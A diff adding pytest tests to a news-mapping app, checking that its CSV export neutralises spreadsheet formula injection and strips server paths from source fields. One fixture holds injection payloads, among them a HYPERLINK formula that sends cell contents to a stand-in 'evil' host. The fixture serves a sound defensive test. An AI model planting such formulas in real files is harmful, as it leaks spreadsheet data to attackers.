@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import geopandas
 import pandas as pd
 import pytest
+from handmade import BAKHMUT as BAKHMUT_PLACE
+from handmade import parse_article
 from store_support import write_corpus
 
 from mapapp import corpus
@@ -22,6 +26,7 @@ from mapapp.export import (
     timeline_frame,
 )
 from mapapp.ingest import SerialRunner, ingest
+from mapapp.model import Article, ParsedArticle, PartialDate
 from mapapp.periods import locate_date
 from mapapp.store import Store
 from mapapp.timeline import build_timeline
@@ -134,3 +139,47 @@ def test_bad_input_says_what_to_do(store, tmp_path):
         export_mentions(store_frame(store, "2023-01", "2023-01"), "xlsx")
     run = _cli_export(store, tmp_path / "out.xlsx")
     assert run.returncode == 2 and "--format" in run.stderr
+
+
+# ------------------------------------------------- CSV formula injection (issue 15, item 10)
+
+FORMULAS = {"article_id": "@a1", "title": '=HYPERLINK("http://evil/"&A1,"x")',
+            "source": "+31 6 1234", "url": "-2+3", "sentence": "\t=1+1 Bachmoet valt."}
+
+
+class WestOfGreenwich:
+    """A stand-in geoparser that puts Bakhmut at a negative longitude: a number with a minus."""
+
+    def parse(self, article: Article) -> ParsedArticle:
+        return parse_article(article, {"Bachmoet": replace(BAKHMUT_PLACE, lat=-33.5, lon=-58.25)})
+
+
+def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
+    path = tmp_path / "store"
+    article = Article(FORMULAS["article_id"], PartialDate(2023, 3), FORMULAS["sentence"],
+                      title=FORMULAS["title"], source=FORMULAS["source"], url=FORMULAS["url"])
+    Store.open(path, create=True).add([article], WestOfGreenwich())
+    out = tmp_path / "out.csv"
+    run = _cli_export(Store.open(path), out, "--format", "csv")
+    assert run.returncode == 0, run.stderr
+    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
+    for column, value in FORMULAS.items():  # a spreadsheet shows the text, runs nothing
+        assert row[column] == "'" + value.strip()
+    assert (row["lat"], row["lon"], row["start"]) == ("-33.5", "-58.25", "6")  # numbers stay
+    assert row["surface"] == "Bachmoet" and row["date"] == "2023-03"
+    geojson = tmp_path / "out.geojson"
+    assert _cli_export(Store.open(path), geojson, "--format", "geojson").returncode == 0
+    (feature,) = json.loads(geojson.read_text(encoding="utf-8"))["features"]
+    assert feature["properties"]["title"] == FORMULAS["title"]  # other formats: as written
+
+
+def test_an_older_stores_seed_path_leaves_as_the_files_name(tmp_path):
+    """Stores written before the reader named files relative to the corpus hold the server's
+    path of a .txt article as its source: a download carries only the file's name."""
+    path = tmp_path / "store"
+    article = Article("a1", PartialDate(2023, 3), "Bachmoet valt.", source="/srv/corpus/a1.txt")
+    Store.open(path, create=True).add([article], WestOfGreenwich())
+    out = tmp_path / "out.csv"
+    assert _cli_export(Store.open(path), out, "--format", "csv").returncode == 0
+    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
+    assert row["source"] == "a1.txt"
